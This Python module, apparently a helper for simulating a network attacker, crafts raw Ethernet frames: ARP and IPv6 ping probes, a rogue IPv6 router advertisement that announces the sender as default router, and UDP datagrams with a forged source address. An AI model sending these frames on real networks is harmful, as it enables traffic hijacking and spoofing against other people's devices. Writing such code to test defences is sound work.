"""Ethernet frames as an attacker writes them."""

from __future__ import annotations

import struct
from ipaddress import IPv4Address, IPv6Address

BROADCAST = "ff:ff:ff:ff:ff:ff"
ALL_NODES, ALL_NODES_MAC = "ff02::1", "33:33:00:00:00:01"


def link_local(mac: str) -> str:
    """Return the IPv6 address that a device of that MAC gives itself (RFC 4291, appendix A)."""
    first, *rest = bytes.fromhex(mac.replace(":", ""))
    body = bytes([first ^ 2, *rest[:2], 0xFF, 0xFE, *rest[2:]])
    return str(IPv6Address(b"\xfe\x80" + bytes(6) + body))


def arp_request(mac: str, sender: str, target: str) -> bytes:
    """Ask everybody for the MAC of an address."""
    packet = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + _mac(mac) + IPv4Address(sender).packed
    return _ethernet(BROADCAST, mac, 0x0806, packet + bytes(6) + IPv4Address(target).packed)


def arp_answers(frames: list[bytes], target: str) -> set[str]:
    """Return the MACs that were given for an address."""
    wanted = IPv4Address(target).packed
    replies = (frame for frame in frames if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\x02")
    return {frame[22:28].hex(":") for frame in replies if frame[28:32] == wanted}


def router_advertisement(mac: str, to_mac: str = ALL_NODES_MAC) -> bytes:
    """Offer oneself as the default router, with a prefix to make addresses of (RFC 4861, 4.2)."""
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 1800, 1800, 0) + IPv6Address("2001:db8:bad::").packed
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + bytes([1, 1]) + _mac(mac) + prefix
    return _ipv6(mac, to_mac, link_local(mac), ALL_NODES, body)


def echo_request(mac: str, to_mac: str, target: str) -> bytes:
    """Ping an IPv6 address."""
    return _ipv6(mac, to_mac, link_local(mac), target, struct.pack("!BBHHH", 128, 0, 0, 7, 1))


def echo_answers(frames: list[bytes]) -> set[str]:
    """Return the IPv6 addresses that answered a ping."""
    replies = (f for f in frames if f[12:14] == b"\x86\xdd" and f[20] == 58 and f[54] == 129)
    return {str(IPv6Address(frame[22:38])) for frame in replies}


def datagram(mac: str, to_mac: str, sender: str, target: str, port: int, text: bytes) -> bytes:
    """Send UDP over IPv4 under any sender's address; no checksum is needed for it."""
    udp = struct.pack("!HHHH", 40000, port, 8 + len(text), 0) + text
    addresses = IPv4Address(sender).packed + IPv4Address(target).packed
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0) + addresses
    header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
    return _ethernet(to_mac, mac, 0x0800, header + udp)


def _ipv6(mac: str, to_mac: str, sender: str, target: str, icmp: bytes) -> bytes:
    addresses = IPv6Address(sender).packed + IPv6Address(target).packed
    pseudo = addresses + struct.pack("!II", len(icmp), 58)
    icmp = icmp[:2] + struct.pack("!H", _checksum(pseudo + icmp)) + icmp[4:]
    return _ethernet(
        to_mac, mac, 0x86DD, struct.pack("!IHBB", 0x60000000, len(icmp), 58, 255) + addresses + icmp
    )


def _ethernet(to_mac: str, mac: str, kind: int, payload: bytes) -> bytes:
    return (_mac(to_mac) + _mac(mac) + struct.pack("!H", kind) + payload).ljust(60, b"\0")


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _checksum(data: bytes) -> int:
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
